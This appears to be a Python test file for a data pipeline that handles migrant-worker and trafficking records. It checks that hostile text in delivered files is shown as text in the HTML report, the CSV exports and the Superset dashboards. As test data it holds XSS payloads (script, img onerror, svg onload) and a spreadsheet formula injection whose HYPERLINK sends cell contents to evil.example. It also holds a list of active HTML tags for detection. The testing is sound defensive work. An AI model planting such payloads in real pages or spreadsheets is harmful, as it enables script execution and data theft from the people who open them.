"""Markup and formulas in every delivered text that reaches the report, Superset or an
export are shown as text, never run (issue 12 point 4).

A hostile landing goes through the real ``discover`` and ``load_feed``: agencies named
``<script>``, an ``<img onerror>`` as an agency id, village and country, a formula as a
purpose code, and files whose names carry markup (rejected at discovery, or at load with
the name in the reason). The marts that carry those texts to the dashboards' copy are
filled from that warehouse the way dbt selects them (``mart_feed_quality`` from
``meta.deliveries``, ``mart_unmapped_values`` from the raw values and
``meta.unmapped_codes``, the watchlist from the P3MI register: column for column, no
text is transformed on the way), the rest are tests/privacy/marts.py's; then the real
``publish``, ``write_report`` and ``export_table``. A full dbt build (about 45 s here)
would change no text.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
import yaml

from ingest.feeds import feed
from ingest.load import discover, load_feed
from ingest.schema import ensure_warehouse
from tests.conftest import paspor_row, write_xlsx
from tests.privacy.marts import build_warehouse
from tests.report import chromium
from tests.report.htmltables import rows_by, tables
from tppo.config import Paths
from tppo.privacy.export import FORMULA_START, export_table
from tppo.pseudonym import Pseudonymiser
from tppo.publish import publish
from tppo.report import write_report
from tppo.report.format import tier
from tppo.warehouse import open_warehouse

REPO = Path(__file__).resolve().parents[2]
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
PAYLOADS = (SCRIPT, IMG, LINK)
DAY = dt.date(2025, 3, 10)
# file and folder names cannot hold '/': the same attacks without one
NAMED = {
    "imigrasi/paspor/<script>alert(1)<.csv": "not in the layout",
    f"{IMG}/kiriman.csv": "not in the layout",
    '=HYPERLINK("evil.example","klik")/kiriman.csv': "not in the layout",
    f"bp3mi/penempatan/2025-03-05/penempatan_20250305{IMG}.xlsx": "not a readable XLSX workbook",
}


def _deliver(landing: Path) -> None:
    p3mi = feed("p3mi").columns
    agencies = [dict(id_p3mi="P3MI-1", nama_perusahaan=SCRIPT),
                dict(id_p3mi=IMG, nama_perusahaan=IMG), dict(id_p3mi="P3MI-3",
                                                              nama_perusahaan=LINK)]
    write_xlsx(landing / "bp3mi/p3mi/2025-03-03/p3mi_20250303.xlsx", list(p3mi), [
        [{**a, "no_izin": "IZ/1", "status_izin": "AKTIF", "tgl_status": "2024-01-01",
          "kabupaten_cabang": "KAB. PESAWARAN"}.get(c, "") for c in p3mi] for a in agencies])
    paspor = landing / "imigrasi/paspor/2025-03-05/paspor_BDL_20250305.csv"
    paspor.parent.mkdir(parents=True)
    with open(paspor, "w", encoding="utf-8", newline="") as fh:  # quoted as SIMKIM quotes
        out = csv.writer(fh, delimiter=";", lineterminator="\r\n")
        out.writerow(feed("paspor").columns)
        out.writerows(paspor_row(f"A{i}", negara_tujuan=SCRIPT, desa=IMG, tujuan_permohonan=LINK,
                                 nama=SCRIPT, alamat=IMG) for i in range(6))
    for rel in NAMED:
        path = landing / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("no_permohonan;nik\r\n1;2\r\n")


def _carry_to_marts(con: duckdb.DuckDBPyConnection) -> None:
    """The text columns of the published marts, selected from the warehouse as dbt does."""
    con.execute("""CREATE OR REPLACE TABLE marts.mart_feed_quality AS
        SELECT source, feed, file_name, delivery_date, sha256, status, rows_read, rows_loaded,
               rows_quarantined, validation_result, loaded_at, 0 AS failed_critical_expectations,
               0 AS failed_warning_expectations, message
        FROM meta.deliveries WHERE status <> 'PENDING'""")
    con.execute("""CREATE OR REPLACE TABLE marts.mart_recruiter_watchlist AS
        SELECT 'P-' || id_p3mi AS recruiter_key, 'LICENSED_P3MI' AS recruiter_type,
               id_p3mi AS agency_id, nama_perusahaan AS recruiter_name,
               status_izin AS licence_status, tgl_status_date AS licence_status_date,
               true AS is_in_latest_register, 3 AS villages_reached, 20 AS placements,
               6 AS linked_complaints, 0 AS victims, 0 AS interdictions, 0 AS tppo_cases,
               DATE '2024-01-01' AS first_seen_date, DATE '2025-03-03' AS last_seen_date
        FROM raw.bp3mi__p3mi""")
    con.execute("""CREATE OR REPLACE TABLE marts.mart_unmapped_values AS
        WITH v AS (
            SELECT 'negara_tujuan' AS field, 'COUNTRY' AS value_kind, negara_tujuan AS raw_value,
                   _delivery_date AS d FROM raw.imigrasi__paspor
            UNION ALL SELECT 'desa', 'VILLAGE', desa, _delivery_date FROM raw.imigrasi__paspor)
        SELECT 'imigrasi' AS source, 'paspor' AS feed, field, value_kind, raw_value,
               CAST(count(*) AS INTEGER) AS n_rows, min(d) AS first_delivery_date,
               max(d) AS last_delivery_date, 'left unknown' AS action
        FROM v GROUP BY ALL
        UNION ALL
        SELECT source, feed, field, 'CODE', value, CAST(sum(n_rows) AS INTEGER),
               min(delivery_date), max(delivery_date), 'loaded as delivered'
        FROM meta.unmapped_codes GROUP BY ALL""")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    p = Paths(landing=root / "landing", home=root / "home")
    _deliver(p.landing)
    build_warehouse(p, {("WAYLAYAP", "tppo_victims"): [3, 6, 7]})
    with open_warehouse(p.warehouse) as con:
        ensure_warehouse(con)
        discover(con, p.landing, DAY, "b1", settle_seconds=0)
        for name in ("p3mi", "paspor", "penempatan"):
            load_feed(con, feed(name), p.landing, "b1", Pseudonymiser(b"k"))
        _carry_to_marts(con)
    assert publish(p)["action"] == "published"
    page = write_report(p, DAY)
    with duckdb.connect(str(p.dashboard), read_only=True) as con:
        published = [r[0] for r in con.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'marts' "
            "ORDER BY 1").fetchall()]
    assert {"mart_feed_quality", "mart_recruiter_watchlist", "mart_unmapped_values"} <= set(
        published)
    exports = []
    for table in published:
        export_table(p, table, root / "exports" / f"{table}.csv")
        exports.append(root / "exports" / f"{table}.csv")
    return p, page, exports


def test_every_delivered_text_reaches_the_report_as_text(hostile):
    _, page, _ = hostile
    text = page.read_text(encoding="utf-8")
    shown = tables(text)  # cells as a reader sees them, markup unescaped
    agencies = rows_by(shown["perekrut"][0], "Perusahaan")
    assert set(agencies) == set(PAYLOADS)
    assert agencies[IMG]["ID P3MI"] == IMG
    files = rows_by(shown["kualitas"][1], "Berkas")
    for rel, why in NAMED.items():
        assert why in files[rel]["Alasan"] and rel.rsplit("/", 1)[-1] in files[rel]["Alasan"]
    values = {r[4] for r in shown["kualitas"][2][1:]}
    assert {SCRIPT, IMG, LINK.upper()} <= values  # unmapped country, village, code (as coded)
    for payload in PAYLOADS:  # in the page's bytes, only escaped
        assert payload not in text and html.escape(payload) in text
    assert "onerror" not in text.replace(html.escape(IMG), "")


# Elements that run, fetch, embed or navigate: none belongs in the report.
ACTIVE_TAGS = {"script", "img", "iframe", "frame", "frameset", "object", "embed", "applet",
               "link", "base", "form", "input", "button", "textarea", "select", "video",
               "audio", "source", "track", "picture", "portal", "foreignobject", "animate",
               "set", "animatetransform", "animatemotion", "math", "template", "noscript"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "srcset", "poster"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]


def test_the_page_has_no_element_or_address_that_data_brought(hostile):
    _, page, _ = hostile
    text = page.read_text(encoding="utf-8")
    found = _Elements()
    found.feed(text)
    assert found.tags & ACTIVE_TAGS == set()
    assert [v for t, k, v in found.attrs if t == "meta" and k == "http-equiv"] == []
    assert [a for a in found.attrs if a[1].startswith("on")] == []
    for tag, name, value in found.attrs:  # offline: nothing to fetch, no scheme to follow
        if tag == "image" and name in URL_ATTRIBUTES and value.startswith(
                "data:image/png;base64,"):
            continue  # matplotlib's colour bar, inside the page
        if name in URL_ATTRIBUTES:  # a place in the page or the dbt docs beside it
            assert value.startswith("#") or value == "../dbt-docs.html", (tag, name, value)
        assert not re.search(r"(?i)javascript:|https?:|//|url\((?!#)", value), (tag, name, value)
    styles = re.findall(r"(?s)<style[^>]*>(.*?)</style>", text)
    assert styles and not [s for s in styles if re.search(r"(?i)url\((?!#)|@import", s)]


def test_chromium_runs_nothing_the_data_wrote(hostile, tmp_path):
    """A probe defines alert/confirm/prompt to mark the page before anything else runs:
    the report never marks it, a page with the same payloads unescaped does."""
    _, page, _ = hostile
    probe = ("<script>for (const f of ['alert', 'confirm', 'prompt', 'print']) "
             "window[f] = () => document.documentElement.setAttribute('data-ran', f);</script>")
    checked = tmp_path / "report.html"
    checked.write_text(page.read_text(encoding="utf-8").replace("<head>", "<head>" + probe, 1),
                       encoding="utf-8")
    control = tmp_path / "control.html"
    control.write_text(f"<!doctype html><html><head>{probe}</head><body><p>{IMG}</p>"
                       f"<p><svg onload=alert(1)></svg></p></body></html>", encoding="utf-8")
    assert 'data-ran="alert"' in chromium.dom(control)  # the probe sees what runs
    dom = chromium.dom(checked)
    assert 'data-ran="' not in dom
    assert dom.count("<script") == 1 and "<img" not in dom  # the probe's only
    assert html.escape(SCRIPT, quote=False) in dom  # there, as text


def test_exports_hold_formulas_as_text(hostile):
    _, _, exports = hostile
    cells = []
    for path in exports:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells += [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert {"'" + LINK, "'" + LINK.upper(), SCRIPT, IMG} <= set(cells)  # as text


def test_superset_shows_the_texts_as_text(hostile):
    """The dashboards' copy holds the texts as delivered, and no table chart of the bundle
    renders a cell as HTML (Superset's table chart does unless told not to)."""
    p, _, _ = hostile
    with duckdb.connect(str(p.dashboard), read_only=True) as con:
        names = {r[0] for r in con.execute(
            "SELECT recruiter_name FROM marts.mart_recruiter_watchlist").fetchall()}
        files = {r[0] for r in con.execute(
            "SELECT file_name FROM marts.mart_feed_quality").fetchall()}
    assert names == set(PAYLOADS) and set(NAMED) <= files
    tables_ = []
    for chart in sorted((REPO / "deploy/superset/bundle/charts").glob("*.yaml")):
        spec = yaml.safe_load(chart.read_text(encoding="utf-8"))
        if spec["viz_type"] in ("table", "pivot_table_v2", "ag-grid-table"):
            tables_.append(chart.name)
            assert spec["params"].get("allow_render_html") is False, chart.name
    assert len(tables_) >= 4


def test_a_code_outside_the_contract_is_escaped_where_it_names_a_style():
    assert tier(IMG) == (f"<span class='tier {html.escape(IMG)}'>{html.escape(IMG)}</span>")
